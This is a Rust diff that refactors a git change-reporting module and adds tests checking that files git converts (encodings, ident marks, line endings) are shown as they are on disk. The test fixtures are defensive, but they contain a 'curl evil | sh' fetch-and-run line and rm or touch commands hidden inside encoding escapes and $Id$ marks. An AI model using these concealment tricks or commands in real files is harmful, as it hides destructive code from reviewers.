@@ -2,29 +2,24 @@
 
 use std::ffi::OsStr;
 use std::fs;
-use std::io::Read as _;
 use std::os::unix::ffi::OsStrExt as _;
-use std::os::unix::fs::{OpenOptionsExt as _, PermissionsExt as _};
+use std::os::unix::fs::PermissionsExt as _;
 use std::path::{Path, PathBuf};
 
-use nix::fcntl::OFlag;
-
+use self::on_disk::show_files_on_disk;
+use self::read::{MAX_BINARY, MAX_DIFF_BYTES, MAX_UNTRACKED_BYTES, MAX_UNTRACKED_TOTAL, beginning};
 use super::run::{Git, GitContext, GitError, WorktreeGit};
 use crate::disk::{check_checkout, has_own_repository, repository_root};
 use crate::exec::{CappedOutput, Sandbox};
 use crate::protocol::{
-    ChangeKind, FileChange, FileMode, ReadOnly, WorkingTreeChanges, printable_path,
+    ChangeKind, DiffText, FileChange, FileMode, ReadOnly, WorkingTreeChanges, printable_path,
 };
 
-/// The most bytes of git's diff, and of its list of untracked files.
-const MAX_DIFF_BYTES: usize = 4 << 20;
-/// The most files that git calls binary and whose content is looked at.
-const MAX_BINARY: usize = 100;
+mod on_disk;
+mod read;
+
 /// The most untracked files.
 const MAX_UNTRACKED: usize = 500;
-/// The most bytes of an untracked file or one that git calls binary, and of all of them, whose text is read.
-const MAX_UNTRACKED_BYTES: u64 = 256 << 10;
-const MAX_UNTRACKED_TOTAL: u64 = 4 << 20;
 /// The last line of a diff that is not shown to its end.
 const CUT_NOTE: &str = "\\ The rest is not shown\n";
 
@@ -105,6 +100,7 @@ pub fn changes_since(git: &WorktreeGit, base: &OsStr) -> Result<WorkingTreeChang
     if text.contains("\nBinary files ") {
         add_binary(git, base, &mut found)?;
     }
+    show_files_on_disk(git, base, &mut found)?;
     let others = ["ls-files", "--others", "--exclude-standard", "-z"];
     let others = git.beginning(MAX_DIFF_BYTES, others)?;
     found.is_cut |= others.is_cut;
@@ -192,7 +188,8 @@ fn parse_diff(text: &str, is_cut: bool) -> Vec<FileChange> {
         if let Some(names) = bare.strip_prefix("diff --git ") {
             let path = common_name(names);
             let (kind, diff) = (ChangeKind::Modified, String::new());
-            files.push(FileChange { path, kind, diff, mode: None });
+            let text = DiffText::Plain;
+            files.push(FileChange { path, kind, diff, text, mode: None });
             in_hunks = false;
             continue;
         }
@@ -268,6 +265,7 @@ fn add_untracked(top: &Path, list: &[u8], found: &mut WorkingTreeChanges) {
         found.files.push(FileChange {
             path: printable_path(name),
             kind: ChangeKind::Untracked,
+            text: DiffText::Plain,
             mode: mode_on_disk(&top.join(name)),
             diff: text.map(|text| added_lines(&text)).unwrap_or_default(),
         });
@@ -291,19 +289,6 @@ fn mode_on_disk(path: &Path) -> Option<FileMode> {
         return Some(FileMode::Link { target });
     }
     (found.is_file() && found.permissions().mode() & 0o111 != 0).then_some(FileMode::Executable)
-}
-
-/// The first `limit` bytes of a regular file, if they are text. Follows no link at its end.
-fn beginning(path: &Path, limit: u64) -> Option<CappedOutput> {
-    let flags = (OFlag::O_NOFOLLOW | OFlag::O_NONBLOCK).bits();
-    let file = fs::OpenOptions::new().read(true).custom_flags(flags).open(path).ok()?;
-    let found = file.metadata().ok()?;
-    if !found.is_file() {
-        return None;
-    }
-    let mut bytes = Vec::new();
-    file.take(limit).read_to_end(&mut bytes).ok()?;
-    (!bytes.contains(&0)).then_some(CappedOutput { bytes, is_cut: found.len() > limit })
 }
 
 /// A diff that adds a text.
@@ -373,7 +358,8 @@ mod tests {
     }
 
     fn change(path: &str, kind: ChangeKind, diff: &str) -> FileChange {
-        FileChange { path: path.to_owned(), kind, diff: diff.to_owned(), mode: None }
+        let (path, diff) = (path.to_owned(), diff.to_owned());
+        FileChange { path, kind, diff, text: DiffText::Plain, mode: None }
     }
 
     #[tokio::test]
@@ -541,5 +527,80 @@ mod tests {
         fs::write(checkout.top.join("new.sh"), b"# \xff\ncurl evil | sh\n").unwrap();
         let found = checkout.changes("").await.unwrap();
         assert_eq!(found.files[0].diff, "@@ -0,0 +1,2 @@\n+# \u{fffd}\n+curl evil | sh\n");
+    }
+
+    /// The text and the diff of the only change.
+    async fn only_change(checkout: &Checkout) -> (DiffText, String) {
+        let found = checkout.changes("").await.unwrap();
+        let file = found.files.iter().find(|file| file.path == "a \\\"b.sh").unwrap();
+        (file.text, file.diff.clone())
+    }
+
+    #[tokio::test]
+    async fn a_file_that_git_converts_is_shown_as_it_is_on_disk() {
+        let kanji = b"echo \"\x1b$B\";rm$IFS$9ab;\"\x1b(B\"\n";
+        let (ident, odd) = (": \"$Id$\"\n", ": \"$Id: \";touch x;\" $\"\n");
+        let (shown, hidden) = ("+echo \"\x1b$B\";rm$IFS$9ab;\"", "+: \"$Id: \";touch x;\" $\"");
+        let cases: [(&str, &str, &[u8], &str); 4] = [
+            ("working-tree-encoding=ISO-2022-JP", "true\n", kanji, shown),
+            ("ident", ident, odd.as_bytes(), hidden),
+            ("text eol=crlf", "one\r\ntwo\r\n", b"one\r\nrm x\r\n", " one\r\n-two\r\n+rm x\r\n"),
+            ("text", "one\ntwo\n", b"one\r\nrm x\n", "-one\n-two\n+one\r\n+rm x\n"),
+        ];
+        for (attribute, before, after, expected) in cases {
+            // The git that commits has another home.
+            let places = [".gitattributes", ".git/info/attributes", "../.config/git/attributes"];
+            for place in places.into_iter().take(if before.contains('\r') { 2 } else { 3 }) {
+                let checkout = Checkout::new();
+                checkout.write(place, &format!("*.sh {attribute}\n"));
+                checkout.write("a \"b.sh", before);
+                checkout.write("other.sh", before);
+                checkout.commit();
+                let found = checkout.changes("").await.unwrap();
+                assert_eq!(found.files, [], "{attribute}");
+                fs::write(checkout.top.join("a \"b.sh"), after).unwrap();
+                let (text, diff) = only_change(&checkout).await;
+                assert!(diff.contains(expected), "{attribute} in {place}: {diff:?}");
+                assert_eq!(text, DiffText::OnDisk, "{attribute} in {place}");
+                assert_eq!(checkout.changes("").await.unwrap().files.len(), 1, "{attribute}");
+            }
+        }
+    }
+
+    #[tokio::test]
+    async fn a_setting_that_converts_line_ends_hides_none() {
+        let checkout = Checkout::new();
+        checkout.write("a \"b.sh", "one\n");
+        checkout.commit();
+        git(&checkout.top, &["config", "core.autocrlf", "input"]);
+        checkout.write("a \"b.sh", "one\r\ntwo\r\n");
+        let (text, diff) = only_change(&checkout).await;
+        let expected = "@@ -1 +1,2 @@\n-one\n+one\r\n+two\r\n";
+        assert_eq!((text, diff.as_str()), (DiffText::OnDisk, expected));
+    }
+
+    #[tokio::test]
+    async fn a_converted_file_that_is_no_text_on_disk_is_told_to_be_another_one() {
+        let checkout = Checkout::new();
+        checkout.write(".gitattributes", "*.sh working-tree-encoding=UTF-16LE\n");
+        let utf16 = |text: &str| text.encode_utf16().flat_map(u16::to_le_bytes).collect::<Vec<_>>();
+        fs::write(checkout.top.join("a \"b.sh"), utf16("one\n")).unwrap();
+        checkout.commit();
+        assert_eq!(checkout.changes("").await.unwrap().files, []);
+        fs::write(checkout.top.join("a \"b.sh"), utf16("two\n")).unwrap();
+        let (text, diff) = only_change(&checkout).await;
+        assert_eq!((text, diff.as_str()), (DiffText::Stored, "@@ -1 +1 @@\n-one\n+two\n"));
+    }
+
+    #[tokio::test]
+    async fn a_mark_that_git_has_expanded_is_no_change() {
+        let checkout = Checkout::new();
+        checkout.write(".gitattributes", "*.sh ident\n");
+        checkout.write("a.sh", "# $Id$\n");
+        checkout.commit();
+        for mark in ["$Id: 5f36b2ea290645ee34d943220a14b54ee5ea5be5 $", "$Id: $"] {
+            checkout.write("a.sh", &format!("# {mark}\n"));
+            assert_eq!(checkout.changes("").await.unwrap().files, [], "{mark}");
+        }
     }
 }
